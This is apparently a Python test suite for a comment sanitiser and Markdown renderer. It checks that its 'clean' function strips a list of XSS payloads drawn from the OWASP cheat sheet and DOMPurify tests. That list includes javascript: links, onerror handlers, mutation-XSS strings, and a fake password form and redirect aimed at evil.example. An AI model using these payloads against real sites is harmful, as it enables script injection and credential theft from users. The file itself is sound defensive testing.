"""The text of a comment: what may stand in it, and what becomes of the rest."""

from __future__ import annotations

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from comments import record
from permesso.comments import sanitiser
from permesso.comments.prose import LONGEST, MOST_MARKS, Prose
from permesso.comments.records import Record
from permesso.comments.sanitiser import ATTRIBUTES, DEEPEST, TAGS, clean, plain

REL = 'rel="ugc nofollow noopener"'

# After OWASP's "XSS Filter Evasion Cheat Sheet" and DOMPurify's tests for mutations.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' style='position:fixed' class='pm-x' id='main'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a()'>",
    "<math><annotation-xml encoding='text/html'><script>a()</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<iframe srcdoc='<script>a()</script>'></iframe>",
    "<object data='javascript:a()'></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Entra</button></form>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
    "<video src=//evil.example><source src=//evil.example></video><audio src=//evil.example>",
    "<template><script>a()</script></template>",
    "<!--><script>a()</script>-->",
    "<a href='https://a.example' target=_top ping=//evil.example rel=opener download>x</a>",
    "<details ontoggle=alert(1) open>x</details>",
    "<table background=//evil.example><td background=//evil.example>x</table>",
    "\x00<scr\x00ipt>a()</scr\x00ipt>",
]


def harmless(html: str) -> None:
    """Fail where a browser would find more in `html` than text and marked links."""
    for element in lxml.html.fragment_fromstring(html, create_parent="main").iterdescendants():
        assert element.tag in TAGS, html
        allowed = ATTRIBUTES.get(str(element.tag), set())
        assert set(element.attrib) <= allowed | ({"rel"} if element.tag == "a" else set()), html
        if element.tag == "a":
            assert element.get("rel") == "ugc nofollow noopener"
            assert element.get("href", "https:").startswith(("http:", "https:", "mailto:")), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left(attack: str) -> None:
    harmless(clean(attack))
    assert clean(clean(attack)) == clean(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_markdown_is_text(attack: str) -> None:
    html = markdown(f"Prima {attack} dopo")
    harmless(html)
    assert plain(html).startswith("Prima ")
    assert plain(html).endswith(" dopo")


@given(st.lists(st.sampled_from([*ATTACKS, "<b>", "<p>", "</a>", "<a href=x>", "<li>", "<table>"])))
def test_cleaning_twice_is_cleaning_once(parts: list[str]) -> None:
    once = clean("".join(parts))
    harmless(once)
    assert clean(once) == once


@given(st.text())
def test_any_text_is_harmless_and_stays(text: str) -> None:
    once = clean(text)
    harmless(once)
    assert clean(once) == once
    assert "<" not in plain(once) or "&lt;" in once


def test_what_reads_stays() -> None:
    html = (
        '<p>Uno <em>due</em> <a href="https://a.example/?a=1&amp;b=2" '
        f"{REL}>tre</a></p><blockquote><p>quattro</p></blockquote>"
        '<pre><code>x &lt; 1</code></pre><ol start="3"><li>cinque</li></ol>'
    )
    assert clean(html) == html


def test_headings_become_blocks() -> None:
    assert clean("<h1 id=x>A</h1><h3>B</h3>") == "<div>A</div><div>B</div>"


def test_links_on_this_site_are_those_of_another_and_go() -> None:
    assert clean("<a href='/categoria/x/'>x</a>") == f"<a {REL}>x</a>"


def test_what_xml_does_not_allow_goes() -> None:
    assert clean("a\x0b&#x1;\ufffe\ud800b") == "ab"


def test_words_of_blocks_stay_apart() -> None:
    assert plain("<p>Uno<br>due</p><ul><li>tre</li><li>1 &lt; 2</li></ul>") == "Uno due tre 1 < 2"


@pytest.mark.parametrize(
    "tag", ["div", "b", "blockquote", "ul", "table", "a href=x", "font size=1"]
)
def test_what_is_nested_without_end_keeps_its_words(tag: str) -> None:
    html = f"<{tag}>parola " * 50_000
    found = clean(html)
    assert found.count("parola") == 50_000
    assert f"<{tag.split()[0]}" not in found
    assert plain(found).count("parola") == 50_000


def test_nesting_that_people_write_stays() -> None:
    html = "<blockquote>" * DEEPEST + "x" + "</blockquote>" * DEEPEST
    assert clean(html) == html


def markdown(text: str) -> str:
    return Prose().html(Record.model_validate(record(text=text)))


def test_markdown_is_rendered_with_its_line_breaks() -> None:
    assert markdown("Uno\ndue *tre*") == "<p>Uno<br>\ndue <em>tre</em></p>"


def test_html_in_markdown_is_text() -> None:
    assert markdown("Il tag <b>b</b>") == "<p>Il tag &lt;b&gt;b&lt;/b&gt;</p>"


@pytest.mark.parametrize(
    "text", ["![gatto](https://p.example/g.png)", "![gatto][g]\n\n[g]: https://p.example/g.png"]
)
def test_a_picture_is_a_link_to_it(text: str) -> None:
    assert markdown(text) == f'<p><a href="https://p.example/g.png" {REL}>gatto</a></p>'


def test_a_link_that_would_run_has_no_address() -> None:
    assert markdown("[x](javascript:alert(1))") == f"<p><a {REL}>x</a></p>"


def test_references_of_one_comment_are_not_those_of_the_next() -> None:
    prose = Prose()
    prose.html(Record.model_validate(record(text="[a]: https://a.example")))
    assert prose.html(Record.model_validate(record(text="[a]"))) == "<p>[a]</p>"


@pytest.mark.parametrize(
    "text",
    [
        "parola " * (LONGEST // 7 + 1),
        "parola " + "[" * (MOST_MARKS + 1),
        "parola " + "*" * 1_000_000,
        "1. " * 6000 + "parola",
        "> " * 6000 + "parola",
        "- " * 20 + "parola",
    ],
)
def test_what_markdown_is_not_soon_done_with_is_shown_as_paragraphs(text: str) -> None:
    found = markdown(f"{text}\n\nfine")
    harmless(found)
    assert found.endswith("<p>fine</p>")
    assert plain(found) == " ".join(f"{text} fine".split())


def test_a_comment_of_a_megabyte_is_shown_whole() -> None:
    assert plain(clean("<p>parola &amp; </p>" * 50_000)).count("parola &") == 50_000


def test_a_text_full_of_references_says_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "<p>a &amp; b &lt;c&gt; &eacute; &#233; &#xe9; &nonesuch; &; &#; x&y</p>"
    expected = sanitiser.clean(text)
    monkeypatch.setattr(sanitiser, "MANY_REFERENCES", 0)
    assert sanitiser.clean(text) == expected
    # Rewritten as numbers, of which nh3 has soon done with a million.
    assert sanitiser._parsable("&amp;&&zz;&lt;") == "&#38;&#38;&#38;zz;&#60;"
